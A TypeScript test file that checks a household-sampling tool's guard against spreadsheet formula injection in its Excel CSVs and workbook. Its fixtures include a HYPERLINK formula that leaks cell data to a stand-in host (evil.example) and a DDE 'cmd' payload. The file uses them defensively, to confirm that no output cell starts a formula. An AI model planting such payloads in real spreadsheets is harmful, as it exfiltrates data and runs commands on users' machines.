/**
 * Issue 13, "formula injection" (CWE-1236): registry values that a spreadsheet would run as a
 * formula are neutralised in the files made for spreadsheets (--excel CSVs, the check workbook) by
 * the formula guard of docs/algorithm.md §20, and read back exactly by verify, --exclude, estimate
 * and docs/check_draw.py; files for programs keep the registry's exact values; draws made before
 * the guard still verify.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, startsFormula, unguardCell, unguardColumn } from '../src/core/spreadsheetText.js';
import { sealManifest, type Manifest } from '../src/core/manifest.js';
import { cli, DEMO, ROOT, tempDir } from './helpers.js';
import { checkDraw, pythonOnPath } from './pythonChecker.js';

const FORMULA_CHARACTERS = ['=', '+', '-', '@', '\t', '\r', "'"];

describe('§20 guard and unguard (property)', () => {
  const hostileText = fc.oneof(
    fc.string(),
    fc.tuple(fc.constantFrom(...FORMULA_CHARACTERS), fc.string()).map(([first, rest]) => first + rest),
    fc
      .tuple(fc.constantFrom("'", "''"), fc.constantFrom(...FORMULA_CHARACTERS), fc.string())
      .map(([quotes, first, rest]) => quotes + first + rest),
    fc.double({ noNaN: true }).map(String),
  );

  it('unguard(guard(x)) = x, and guard(x) never starts a formula', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
        expect(startsFormula(guardCell(text))).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('a guarded column reads back exactly; a column that starts a formula is read as written', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 12 }), (column) => {
        expect(unguardColumn(column.map(guardCell))).toEqual(column);
        if (column.some(startsFormula)) expect(unguardColumn(column)).toEqual(column);
      }),
      { numRuns: 500 },
    );
  });

  it('negative numbers stay numbers; the six formula starts and the apostrophe are guarded', () => {
    expect(['-3', '-0.25', '-5e-7', '-.5'].map(guardCell)).toEqual(['-3', '-0.25', '-5e-7', '-.5']);
    expect(['=1', '+1', '-1+1', '@A1', '\tx', '\rx', "'x", '-'].map(guardCell)).toEqual([
      "'=1",
      "'+1",
      "'-1+1",
      "'@A1",
      "'\tx",
      "'\rx",
      "''x",
      "'-",
    ]);
  });
});

// ---------------------------------------------------------------------------------------------

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此核实")';
const HOSTILE_HEADER = "=cmd|' /C calc'!A0";

/** The demo registry with formula values: village 弥鹤村 renamed, its households' IDs, names and an extra column hostile. */
function hostileRegistry(dir: string): string {
  const lines = readFileSync(DEMO, 'utf8')
    .replace(/^\uFEFF/, '')
    .split(/\r?\n/)
    .filter((line) => line !== '');
  const [header, ...rows] = lines.map((line) => line.split(','));
  const column = (name: string) => header!.indexOf(name);
  const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
  const out = [[...header!, HOSTILE_HEADER]];
  for (const row of rows) {
    const cells = [...row, '-2+3+cmd'];
    if (cells[column('行政村')] === '弥鹤村') {
      cells[column('行政村')] = '@弥鹤村';
      cells[column('户编号')] = `=${cells[column('户编号')]}`;
      cells[column('人编号')] = `=${cells[column('人编号')]}`;
      cells[column('姓名')] = HYPERLINK;
      cells[column('自然村')] = "'新光村";
    }
    out.push(cells);
  }
  const path = join(dir, 'registry.csv');
  writeFileSync(path, `${out.map((cells) => cells.map(quote).join(',')).join('\n')}\n`);
  return path;
}

const DRAW = (registry: string, seed = 'formula-guard') => [
  'monthly',
  registry,
  '--month',
  '2026-11',
  '--seed',
  seed,
  '--level',
  'county',
  '--scope',
  '峨山彝族自治县',
  '--villages',
  '200',
  '--households',
  '3',
  '--village-frame',
  'all',
];

const readCsv = (path: string): string[][] =>
  parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: false }) as string[][];
const manifestOf = (dir: string): Manifest & { parameters: Record<string, unknown> } =>
  JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));

const hasPython = pythonOnPath();

describe('--excel CSVs carry no formula; programs get the exact values; all readers read back exactly', async () => {
  const dir = tempDir('spotcheck-formulas-');
  const registry = hostileRegistry(dir);
  const excelDraw = join(dir, 'excel');
  const plainDraw = join(dir, 'plain');
  const drawn = await cli([...DRAW(registry), '--excel', '--xlsx', '--out', excelDraw]);
  const plain = await cli([...DRAW(registry), '--out', plainDraw]);

  it('both draws are made, from the same units', () => {
    expect(drawn.status, drawn.stderr).toBe(0);
    expect(plain.status, plain.stderr).toBe(0);
    expect(manifestOf(excelDraw).parameters.formula_guard).toBe(1);
    expect(manifestOf(plainDraw).parameters).not.toHaveProperty('formula_guard');
  });

  it('no cell of an --excel CSV starts a formula, and every hostile value is there behind one apostrophe', () => {
    const households = readCsv(join(excelDraw, 'households.csv'));
    const all = ['counties.csv', 'villages.csv', 'households.csv'].flatMap((name) =>
      readCsv(join(excelDraw, name)).flat(),
    );
    expect(all.filter(startsFormula)).toEqual([]);
    expect(households[0]).toContain(`'${HOSTILE_HEADER}`);
    const flat = households.flat();
    expect(flat).toContain(`'${HYPERLINK}`);
    expect(flat).toContain("'@弥鹤村");
    expect(flat).toContain("''新光村");
    expect(flat).toContain("'-2+3+cmd");
    expect(flat.some((cell) => /^'=\d{16}$/.test(cell))).toBe(true);
  });

  it('the CSV for programs keeps the exact values, and reads back cell for cell like the --excel one', () => {
    const exact = readCsv(join(plainDraw, 'households.csv'));
    expect(exact.flat()).toContain(HYPERLINK);
    expect(exact[0]).toContain(HOSTILE_HEADER);
    const excel = readCsv(join(excelDraw, 'households.csv')).map((row) => row.map(unguardCell));
    expect(excel).toEqual(exact);
  });

  it('the workbook holds no formula, and every hostile text is a string cell in the Text format', () => {
    const unzip = spawnSync(
      'unzip',
      ['-p', join(excelDraw, 'check-workbook.xlsx'), 'xl/worksheets/*.xml', 'xl/sharedStrings.xml', 'xl/styles.xml'],
      { encoding: 'utf8', maxBuffer: 64 << 20 },
    );
    if (unzip.status !== 0) return expect.fail(`unzip is needed to read the workbook: ${unzip.stderr}`);
    const xml = unzip.stdout;
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
    // every string cell (t="s") carries a style whose number format is 49 (Text, "@")
    const textStyles = new Set(
      [...(xml.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf [^>]*?\/?>/g)]
        .map((match, index) => (/numFmtId="49"/.test(match[0]) ? index : -1))
        .filter((index) => index >= 0),
    );
    const stringCells = [...xml.matchAll(/<c r="[A-Z]+\d+"( s="(\d+)")? t="s">/g)];
    expect(stringCells.length).toBeGreaterThan(20);
    expect(stringCells.filter((cell) => !textStyles.has(Number(cell[2] ?? '0'))).length).toBe(0);
  });

  it('verify re-draws the --excel draw byte for byte (exit 0)', async () => {
    const result = await cli(['verify', excelDraw, '--registry', registry]);
    expect(result.status, result.stdout + result.stderr).toBe(0);
  });

  it.skipIf(!hasPython)('docs/check_draw.py re-draws it and compares every cell (exit 0)', async () => {
    const result = await checkDraw([join(excelDraw, 'manifest.json'), '--registry', registry]);
    expect(result.status, result.stdout + result.stderr).toBe(0);
  });

  it('--exclude of the --excel draw leaves out exactly the households the plain draw names (keys read without the apostrophe)', async () => {
    const next = async (source: string, name: string) =>
      await cli([
        ...DRAW(registry, 'next'),
        '--exclude',
        source,
        '--exclude-stages',
        'household',
        '--excel',
        '--out',
        join(dir, name),
      ]);
    const fromExcel = await next(excelDraw, 'next-excel');
    const fromPlain = await next(plainDraw, 'next-plain');
    expect(fromExcel.status, fromExcel.stderr).toBe(0);
    expect(fromPlain.status, fromPlain.stderr).toBe(0);
    const excludedKeys = (name: string) =>
      readCsv(join(dir, name, 'excluded.csv'))
        .slice(1)
        .map((row) => unguardCell(row[1]!));
    const drawnIds = readCsv(join(plainDraw, 'households.csv'));
    const idColumn = drawnIds[0]!.indexOf('household_id');
    expect(excludedKeys('next-excel').sort()).toEqual(
      drawnIds
        .slice(1)
        .map((row) => row[idColumn]!)
        .sort(),
    );
    expect(excludedKeys('next-excel')).toEqual(excludedKeys('next-plain'));
    expect(excludedKeys('next-excel').some((key) => key.startsWith('='))).toBe(true);
    // excluded.csv is itself a CSV for Excel: guarded, and read back by verify.
    expect(
      readCsv(join(dir, 'next-excel', 'excluded.csv'))
        .flat()
        .filter(startsFormula),
    ).toEqual([]);
    const verified = await cli(['verify', join(dir, 'next-excel'), '--registry', registry]);
    expect(verified.status, verified.stdout + verified.stderr).toBe(0);
    if (hasPython) {
      const checked = await checkDraw([join(dir, 'next-excel', 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    }
  });

  it('a list copied out of an --excel CSV (keys behind apostrophes) names the same households', async () => {
    const households = readCsv(join(excelDraw, 'households.csv'));
    const idColumn = households[0]!.indexOf('household_id');
    const list = join(dir, 'list.csv');
    writeFileSync(
      list,
      `户编号\n${households
        .slice(1)
        .map((row) => row[idColumn])
        .join('\n')}\n`,
    );
    const result = await cli([...DRAW(registry, 'list'), '--exclude', list, '--exclude-stages', 'household', '--json']);
    expect(result.status, result.stderr).toBe(0);
    const manifest = JSON.parse(result.stdout).manifest as Manifest & {
      exclusions: { excluded: { households: number } };
    };
    expect(manifest.exclusions.excluded.households).toBe(households.length - 1);
  });

  it('a manifest that claims the guard for files written without it fails verify (exit 1)', async () => {
    const forged = join(dir, 'forged');
    execFileSync('cp', ['-r', plainDraw, forged]);
    const { manifest_sha256: _old, ...manifest } = manifestOf(forged);
    manifest.parameters = { ...manifest.parameters, formula_guard: 1 };
    writeFileSync(join(forged, 'manifest.json'), `${JSON.stringify(sealManifest(manifest as Manifest), null, 2)}\n`);
    const result = await cli(['verify', forged, '--registry', registry]);
    expect(result.status).not.toBe(0);
  });
});

describe('a draw made with --excel before the guard (0.4.0) still verifies', () => {
  it('its manifest has no formula_guard and its files hold the raw values: verify and check_draw.py re-draw it unguarded', async () => {
    const dir = tempDir('spotcheck-formulas-legacy-');
    const registry = hostileRegistry(dir);
    const out = join(dir, 'draw');
    expect((await cli([...DRAW(registry), '--excel', '--out', out])).status).toBe(0);
    // Rewrite it as 0.4.0 wrote it: the same cells without apostrophes, no formula_guard.
    const { manifest_sha256: _old, ...manifest } = manifestOf(out);
    delete manifest.parameters.formula_guard;
    for (const name of Object.keys(manifest.outputs)) {
      const rows = readCsv(join(out, name)).map((row) => row.map(unguardCell));
      const text = `\ufeff${rows.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',')).join('\r\n')}\r\n`;
      writeFileSync(join(out, name), text);
      manifest.outputs[name] = {
        ...manifest.outputs[name]!,
        sha256: execFileSync('sha256sum', [join(out, name)], { encoding: 'utf8' }).slice(0, 64),
      };
    }
    writeFileSync(join(out, 'manifest.json'), `${JSON.stringify(sealManifest(manifest as Manifest), null, 2)}\n`);
    expect(readCsv(join(out, 'households.csv')).flat()).toContain(HYPERLINK);
    const verified = await cli(['verify', out, '--registry', registry]);
    expect(verified.status, verified.stdout + verified.stderr).toBe(0);
    if (hasPython) {
      const checked = await checkDraw([join(out, 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    }
  });
});

describe('estimate reads a frame returned from Excel exactly', () => {
  it('the same frame with formula-like labels, raw and through the guard (BOM, CRLF), gives the same estimates', async () => {
    const dir = tempDir('spotcheck-formulas-estimate-');
    const [header, ...rows] = readCsv(join(ROOT, 'fixtures', 'eval-results.csv'));
    const stratum = header!.indexOf('county_stratum');
    const status = header!.indexOf('household_stratum');
    // Labels an insider could plant in the registry: every stratum and status begins a formula.
    const hostile = rows.map((row) =>
      row.map((cell, index) => (index === stratum ? `=${cell}` : index === status ? `@${cell}` : cell)),
    );
    const csv = (table: string[][], eol: string) =>
      table
        .map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(','))
        .join(eol) + eol;
    const raw = join(dir, 'raw.csv');
    const guarded = join(dir, 'guarded.csv');
    writeFileSync(raw, csv([header!, ...hostile], '\n'));
    writeFileSync(
      guarded,
      `\ufeff${csv(
        [header!, ...hostile].map((row) => row.map(guardCell)),
        '\r\n',
      )}`,
    );
    expect(readFileSync(guarded, 'utf8')).toContain("'=");
    const estimate = async (path: string) =>
      await cli(['estimate', path, '--measure', '识别准确=是', '--by', 'status', '--json']);
    const [fromRaw, fromGuarded] = [await estimate(raw), await estimate(guarded)];
    expect(fromRaw.status, fromRaw.stderr).toBe(0);
    expect(fromGuarded.status, fromGuarded.stderr).toBe(0);
    const { frame: _guardedPath, ...guardedEstimates } = JSON.parse(fromGuarded.stdout);
    const { frame: _rawPath, ...rawEstimates } = JSON.parse(fromRaw.stdout);
    expect(guardedEstimates).toEqual(rawEstimates);
    expect(fromGuarded.stdout).toContain('"@poor"');
  });
});

describe('a line break inside a cell never starts a row of a CSV for Excel', () => {
  it('a lone LF or CR in a value or a header is quoted: the file parses to the registry values, verify and check_draw.py agree', async () => {
    const dir = tempDir('spotcheck-formulas-lf-');
    const lines = readFileSync(DEMO, 'utf8')
      .replace(/^\uFEFF/, '')
      .split(/\r?\n/)
      .filter((line) => line !== '');
    const text = `${[`${lines[0]},"备注\n=1+1"`, ...lines.slice(1).map((line, index) => `${line},"${index % 2 ? 'a\n=1+1' : 'b\r@SUM(A1)'}"`)].join('\r\n')}\r\n`;
    const registry = join(dir, 'registry.csv');
    writeFileSync(registry, text);
    const out = join(dir, 'draw');
    const drawn = await cli([
      'monthly',
      registry,
      '--month',
      '2026-11',
      '--seed',
      'lf',
      '--level',
      'county',
      '--scope',
      '峨山彝族自治县',
      '--excel',
      '--out',
      out,
    ]);
    expect(drawn.status, drawn.stderr).toBe(0);
    const rows = readCsv(join(out, 'households.csv'));
    expect(rows.length).toBe(manifestOf(out).outputs['households.csv']!.rows + 1);
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows[0]!.at(-1)).toBe('备注\n=1+1');
    expect(rows.slice(1).every((row) => ['a\n=1+1', 'b\r@SUM(A1)'].includes(row.at(-1)!))).toBe(true);
    expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
    if (hasPython) {
      const checked = await checkDraw([join(out, 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    }
  });
});

describe('the guard agrees in TypeScript and Python on non-ASCII digits', () => {
  it.skipIf(!hasPython)(
    'a household ID "-３" (full-width digit) is guarded by both: verify and check_draw.py pass',
    async () => {
      const dir = tempDir('spotcheck-formulas-fullwidth-');
      const lines = readFileSync(DEMO, 'utf8')
        .replace(/^\uFEFF/, '')
        .split(/\r?\n/)
        .filter((line) => line !== '');
      const registry = join(dir, 'registry.csv');
      writeFileSync(
        registry,
        `${lines.map((line) => line.replace(/^(峨山彝族自治县,[^,]*,[^,]*,[^,]*,)(\d+)/, (_, head: string, id: string) => `${head}-${String.fromCodePoint(0xff10 + Number(id.slice(-1)))}${id}`)).join('\n')}\n`,
      );
      const out = join(dir, 'draw');
      expect(
        (
          await cli([
            'monthly',
            registry,
            '--month',
            '2026-11',
            '--seed',
            'fw',
            '--level',
            'county',
            '--scope',
            '峨山彝族自治县',
            '--excel',
            '--out',
            out,
          ])
        ).status,
      ).toBe(0);
      expect(readFileSync(join(out, 'households.csv'), 'utf8')).toMatch(/'-[\uff10-\uff19]/);
      expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
      const checked = await checkDraw([join(out, 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    },
  );
});
